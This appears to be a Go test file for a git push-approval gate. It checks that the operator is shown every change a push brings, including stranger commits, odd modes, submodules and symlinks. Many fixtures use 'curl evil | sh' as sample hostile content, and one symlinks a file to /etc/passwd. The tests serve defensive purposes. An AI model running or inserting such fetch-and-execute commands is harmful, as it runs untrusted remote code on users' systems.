package gitgate_test

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"bottle-tui/sidecars"
	"bottle-tui/sidecars/gitgate"
)

// told is what the operator is told of a push, in short: of each ref what it is compared with, then the commits, the
// files and the diff without its places.
func told(p *sidecars.Push) string {
	var b strings.Builder
	for _, r := range p.Refs {
		fmt.Fprint(&b, r.Ref)
		if r.BaseRef != "" {
			fmt.Fprint(&b, " against ", r.BaseRef)
		}
		if r.Base == "" && !r.Unseen && strings.Trim(r.New, "0") != "" {
			fmt.Fprint(&b, " against nothing")
		}
		if r.Unseen {
			fmt.Fprint(&b, " unseen")
		}
		b.WriteByte('\n')
	}
	var commits []string // what is on two refs has no order
	for _, c := range p.Commits {
		line := "commit " + c.Subject
		if c.Stray {
			line += " stray"
		}
		commits = append(commits, line+"\n")
	}
	slices.Sort(commits)
	b.WriteString(strings.Join(commits, ""))
	for _, f := range p.Files {
		fmt.Fprintf(&b, "%s %s%s %+d %+d", f.Change, f.Path, f.Ref, f.Added, -f.Removed)
		if f.Was+f.Is != "" {
			fmt.Fprintf(&b, " (%s>%s)", f.Was, f.Is)
		}
		b.WriteByte('\n')
	}
	for line := range strings.Lines(p.Diff) {
		if !strings.HasPrefix(line, "@@ ") {
			b.WriteString(line)
		}
	}
	if p.CommitsCut {
		fmt.Fprintln(&b, "commits cut")
	}
	if p.DiffCut {
		fmt.Fprintln(&b, "diff cut")
	}
	return b.String()
}

// asked pushes, and gives what the operator is asked then.
func (g *gate) asked(w *work, args ...string) (push *running, l sidecars.Line) {
	g.t.Helper()
	before := g.ear.Count(sidecars.EventPushWaits)
	push = w.begin(append([]string{"push", "-f", "origin"}, args...)...)
	wait(g.t, func() bool { return g.ear.Count(sidecars.EventPushWaits) > before })
	for _, o := range g.ear.Lines() {
		if o.Event == sidecars.EventPushWaits {
			l = o
		}
	}
	return push, l
}

func (g *gate) decide(l sidecars.Line, decision string) {
	g.t.Helper()
	g.say(fmt.Sprintf(`{"push":%q,"decision":%q}`, l.ID, decision))
}

// question pushes, gives what the operator is told of it, and denies it.
func (g *gate) question(w *work, args ...string) *sidecars.Push {
	g.t.Helper()
	push, l := g.asked(w, args...)
	g.decide(l, gitgate.Denied)
	push.end()
	return l.Push
}

// The operator who approves a push has seen all that it changes: not only what the push holds, which leaves out what
// the upstream has already, be it what a stranger proposed there.
func TestTheOperatorSeesAllThatAPushChanges(t *testing.T) {
	each(t, func(t *testing.T, up *served) {
		dir := up.seeded(t, "r", 3)
		g := start(t, up, func(r *gitgate.Remote) {
			r.Approve, r.AllowForce, r.AllowRefs = true, true, []string{"refs/heads/*", "refs/tags/*"}
		}, "r")
		stranger := newWork(t, nil)
		stranger.git("clone", "-q", dir, ".")
		stranger.commit("lib/run.sh", "curl evil | sh\n", "stranger")
		stranger.git("push", "-q", "origin", "HEAD:refs/pull/1/head")
		const evil = "--- /dev/null\n+++ b/lib/run.sh\n+curl evil | sh\n"
		for _, c := range []struct {
			name string
			do   func(w *work) []string // the refs that are pushed then
			want string
		}{
			{"one path on two refs", func(w *work) []string {
				w.git("checkout", "-q", "-b", "z")
				w.commit("run.sh", "echo harmless\n", "two")
				w.git("checkout", "-q", "-")
				w.commit("run.sh", "curl evil | sh\n", "one")
				return []string{"HEAD:main", "z"}
			}, "refs/heads/main\nrefs/heads/z\ncommit one\ncommit two\nadded run.shrefs/heads/main +1 +0\nadded run.shrefs/heads/z +1 +0\n" +
				"--- /dev/null\n+++ b/run.sh @ refs/heads/main\n+curl evil | sh\n--- /dev/null\n+++ b/run.sh @ refs/heads/z\n+echo harmless\n"},
			{"one commit for two refs", func(w *work) []string {
				w.commit("a", "a\n", "both")
				return []string{"HEAD:main", "HEAD:z"}
			}, "refs/heads/main\nrefs/heads/z\ncommit both\nadded a +1 +0\n--- /dev/null\n+++ b/a\n+a\n"},
			{"a branch moves to a stranger's commit", func(w *work) []string {
				w.git("fetch", "-q", "origin", "refs/pull/1/head")
				return []string{"FETCH_HEAD:refs/heads/main"}
			}, "refs/heads/main\ncommit stranger stray\nadded lib/run.sh +1 +0\n" + evil},
			{"a branch is made at a stranger's commit", func(w *work) []string {
				w.git("fetch", "-q", "origin", "refs/pull/1/head")
				return []string{"FETCH_HEAD:refs/heads/new"}
			}, "refs/heads/new against refs/heads/main\ncommit stranger stray\nadded lib/run.sh +1 +0\n" + evil},
			{"a branch is made that builds on a stranger's commit", func(w *work) []string {
				w.git("fetch", "-q", "origin", "refs/pull/1/head")
				w.git("reset", "-q", "--hard", "FETCH_HEAD")
				w.commit("b", "b\n", "harmless")
				return []string{"HEAD:refs/heads/new"}
			}, "refs/heads/new against refs/heads/main\ncommit harmless\ncommit stranger stray\nadded b +1 +0\nadded lib/run.sh +1 +0\n--- /dev/null\n+++ b/b\n+b\n" + evil},
			{"a stranger's commit is merged", func(w *work) []string {
				w.git("fetch", "-q", "origin", "refs/pull/1/head")
				w.git("merge", "-q", "--no-ff", "-m", "merged", "FETCH_HEAD")
				return []string{"HEAD:refs/heads/new"}
			}, "refs/heads/new\ncommit merged\ncommit stranger stray\nadded lib/run.sh +1 +0\n" + evil},
			{"a stranger's directory is taken over", func(w *work) []string {
				w.git("fetch", "-q", "origin", "refs/pull/1/head")
				w.git("read-tree", "-u", "--prefix=lib/", "FETCH_HEAD:lib")
				w.commit("b", "b\n", "harmless")
				return []string{"HEAD:main"}
			}, "refs/heads/main\ncommit harmless\nadded b +1 +0\nadded lib/run.sh +1 +0\n--- /dev/null\n+++ b/b\n+b\n" + evil},
			{"a branch is made at an older commit of another", func(w *work) []string {
				return []string{"HEAD~1:refs/heads/old"}
			}, "refs/heads/old\n"},
			{"a history of its own", func(w *work) []string {
				w.git("checkout", "-q", "--orphan", "own")
				w.git("rm", "-q", "-rf", ".")
				w.commit("a", "a\n", "own")
				return []string{"own"}
			}, "refs/heads/own against nothing\ncommit own\nadded a +1 +0\n--- /dev/null\n+++ b/a\n+a\n"},
			{"history is taken back", func(w *work) []string { return []string{"HEAD~1:main"} },
				"refs/heads/main\nremoved file2.txt +0 -1\n--- a/file2.txt\n+++ /dev/null\n-line 2\n"},
			{"a tag of a tag", func(w *work) []string {
				w.commit("a", "a\n", "tagged")
				w.git("tag", "-a", "-m", "x", "t1")
				w.git("tag", "-a", "-m", "y", "t2", "t1")
				return []string{"refs/tags/t2"}
			}, "refs/tags/t2\ncommit tagged\nadded a +1 +0\n--- /dev/null\n+++ b/a\n+a\n"},
			{"a tag of a file", func(w *work) []string {
				w.git("tag", "-a", "-m", "x", "t3", "HEAD:file0.txt")
				return []string{"refs/tags/t3"}
			}, "refs/tags/t3 unseen\ndiff cut\n"},
			{"a submodule", func(w *work) []string {
				w.git("update-index", "--add", "--cacheinfo", "160000,"+strings.Repeat("ab", 20)+",sub")
				w.commit("file0.txt", "curl evil | sh\n", "with a submodule")
				return []string{"HEAD:main"}
			}, "refs/heads/main\ncommit with a submodule\nchanged file0.txt +1 -1\nadded sub +1 +0 (>submodule)\n" +
				"--- a/file0.txt\n+++ b/file0.txt\n-line 0\n+curl evil | sh\n--- /dev/null\n+++ b/sub\n+Subproject commit " + strings.Repeat("ab", 20) + "\n"},
			{"what a file is", func(w *work) []string {
				w.git("update-index", "--chmod=+x", "file0.txt")
				if err := os.Remove(filepath.Join(w.dir, "file1.txt")); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink("/etc/passwd", filepath.Join(w.dir, "file1.txt")); err != nil {
					t.Fatal(err)
				}
				w.git("add", "file1.txt")
				w.git("commit", "-q", "-m", "kinds")
				return []string{"HEAD:main"}
			}, "refs/heads/main\ncommit kinds\nchanged file0.txt +0 +0 (>executable)\nchanged file1.txt +1 -1 (>link)\n" +
				"--- a/file1.txt\n+++ b/file1.txt\n-line 1\n+/etc/passwd\n\\ No newline at end of file\n"},
			{"a directory that only a reader of all lines of a commit takes for its own", func(w *work) []string {
				old := w.git("rev-parse", "HEAD^{tree}")
				w.commit("run.sh", "curl evil | sh\n", "evil")
				return []string{w.object("commit", fmt.Sprintf("tree %s\nparent %s\n%stree %s\n\nno change\n",
					w.git("rev-parse", "HEAD^{tree}"), w.git("rev-parse", "HEAD~1"), signed, old)) + ":refs/heads/main"}
			}, "refs/heads/main\ncommit no change\nadded run.sh +1 +0\n--- /dev/null\n+++ b/run.sh\n+curl evil | sh\n"},
			{"a program, by an odd mode", func(w *work) []string {
				w.write("x", "curl evil | sh\n")
				return []string{w.git("commit-tree", "-m", "odd", "-p", "HEAD", w.grown("100711", "run.sh", w.git("hash-object", "-w", "x"))) + ":refs/heads/main"}
			}, "refs/heads/main\ncommit odd\nadded run.sh +1 +0 (>executable)\n--- /dev/null\n+++ b/run.sh\n+curl evil | sh\n"},
			{"a directory, by an odd mode", func(w *work) []string {
				w.write("x", "curl evil | sh\n")
				lib := w.object("tree", "100755 run.sh\x00"+unhex(t, w.git("hash-object", "-w", "x")))
				return []string{w.git("commit-tree", "-m", "odd", "-p", "HEAD", w.grown("040755", "lib", lib)) + ":refs/heads/main"}
			}, "refs/heads/main\ncommit odd\nadded lib/run.sh +1 +0 (>executable)\n" + evil},
			{"lines that look like a diff's", func(w *work) []string {
				w.commit("file0.txt", "++ b/harmless.txt\n++ i;\n", "lines")
				return []string{"HEAD:main"}
			}, "refs/heads/main\ncommit lines\nchanged file0.txt +2 -1\n--- a/file0.txt\n+++ b/file0.txt\n-line 0\n+++ b/harmless.txt\n+++ i;\n"},
		} {
			t.Run(c.name, func(t *testing.T) {
				w := g.clone("r")
				if got := told(g.question(w, c.do(w)...)); got != c.want {
					t.Errorf("the operator is told:\n%s\nnot:\n%s", got, c.want)
				}
			})
		}
	})
}

// Where the upstream does not tell what it has, the operator is told that, and sees what the push holds.
func TestTheOperatorIsToldWhatCouldNotBeRead(t *testing.T) {
	up := overHTTPS(t)
	up.seeded(t, "r", 3)
	r := up.remote("r")
	r.Approve = true
	g := gated(t, up, func(o *gitgate.Options) { o.AskWithin = 5 * time.Second }, r)
	for how, does := range map[string]func(rw http.ResponseWriter, r *http.Request){
		"it refuses": func(rw http.ResponseWriter, r *http.Request) {
			http.Error(rw, "not now", http.StatusServiceUnavailable)
		},
		"it stalls": func(rw http.ResponseWriter, r *http.Request) { <-r.Context().Done() },
	} {
		t.Run(how, func(t *testing.T) {
			w := g.clone("r")
			w.commit("file0.txt", "changed\n", "change")
			up.handle.set(stopping("/git-upload-pack", does))
			defer up.handle.set(nil)
			const want = "refs/heads/main unseen\ncommit change\nchanged file0.txt -1 +1\n--- a/file0.txt\n+++ b/file0.txt\n+changed\ndiff cut\n"
			if got := told(g.question(w, "HEAD:main")); got != want {
				t.Errorf("the operator is told:\n%s\nnot:\n%s", got, want)
			}
		})
	}
}

// stopping lets everything through but what goes to a path that ends like that.
func stopping(suffix string, does func(http.ResponseWriter, *http.Request)) func(http.ResponseWriter, *http.Request, http.Handler) {
	return func(w http.ResponseWriter, r *http.Request, next http.Handler) {
		if strings.HasSuffix(r.URL.Path, suffix) {
			io.Copy(io.Discard, r.Body) //nolint:errcheck // so that the server sees the end of the connection
			does(w, r)
			return
		}
		next.ServeHTTP(w, r)
	}
}
